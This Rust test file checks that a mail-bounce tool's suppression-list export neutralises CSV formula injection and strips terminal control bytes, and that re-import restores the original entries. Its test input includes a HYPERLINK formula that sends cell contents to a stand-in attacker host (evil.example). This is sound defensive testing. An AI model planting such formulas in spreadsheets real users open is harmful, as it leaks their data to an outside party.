//! Issue 11, CSV injection: `suppress export` writes text from bounces and users (reasons,
//! evidence) into files people open in spreadsheets. Formula cells are neutralised and
//! control bytes stripped; `suppress import` of the export gets the same entries back.

use std::path::{Path, PathBuf};
use std::process::{Command, Output};

fn dir(name: &str) -> PathBuf {
    let d = std::env::temp_dir().join(format!("rebound-csvx-{name}-{}", std::process::id()));
    let _ = std::fs::remove_dir_all(&d);
    std::fs::create_dir_all(&d).expect("temp dir");
    d
}

fn run(d: &Path, args: &[&str]) -> Output {
    let out = Command::new(env!("CARGO_BIN_EXE_rebound"))
        .args(args)
        .current_dir(d)
        .output()
        .expect("run rebound");
    assert!(
        out.status.success(),
        "{args:?}: {}{}",
        String::from_utf8_lossy(&out.stdout),
        String::from_utf8_lossy(&out.stderr)
    );
    out
}

#[test]
fn suppress_export_neutralises_formulas_and_import_restores_them() {
    let d = dir("export");
    let evidence = "=HYPERLINK(\"http://evil.example/?\"&A1,\"ticket\")\u{1b}[2J\u{7}";
    run(
        &d,
        &[
            "suppress",
            "add",
            "ann@x.test",
            "--reason",
            "+complaint",
            "--evidence",
            evidence,
        ],
    );
    run(&d, &["suppress", "export", "-o", "list.csv"]);
    let bytes = std::fs::read(d.join("list.csv")).expect("export");
    assert!(
        !bytes.iter().any(|&b| b == 0x1b || b == 0x07),
        "control bytes in the export"
    );
    let mut r = csv::Reader::from_reader(&bytes[..]);
    let rows: Vec<csv::StringRecord> = r.records().map(|x| x.expect("row")).collect();
    assert_eq!(rows.len(), 1);
    assert_eq!(&rows[0][0], "ann@x.test");
    assert_eq!(&rows[0][1], "'+complaint");
    assert_eq!(
        &rows[0][3],
        "'=HYPERLINK(\"http://evil.example/?\"&A1,\"ticket\")[2J"
    );
    for cell in rows[0].iter() {
        assert!(
            !cell.trim_start().starts_with(['=', '+', '-', '@']),
            "a formula cell: {cell}"
        );
    }
    // `suppress list` writes CSV the same way
    let out = run(&d, &["suppress", "list"]);
    assert!(String::from_utf8_lossy(&out.stdout).contains(",'+complaint,"));

    // the export read back into another store: the entries as they were entered (less
    // the control bytes)
    let other = dir("import");
    std::fs::copy(d.join("list.csv"), other.join("list.csv")).expect("copy");
    run(&other, &["suppress", "import", "list.csv"]);
    run(
        &other,
        &["suppress", "export", "--format", "json", "-o", "back.json"],
    );
    let back: serde_json::Value =
        serde_json::from_slice(&std::fs::read(other.join("back.json")).expect("json"))
            .expect("json");
    assert_eq!(back[0]["email"], "ann@x.test");
    assert_eq!(back[0]["reason"], "+complaint");
    assert_eq!(
        back[0]["evidence"],
        "=HYPERLINK(\"http://evil.example/?\"&A1,\"ticket\")[2J"
    );
}
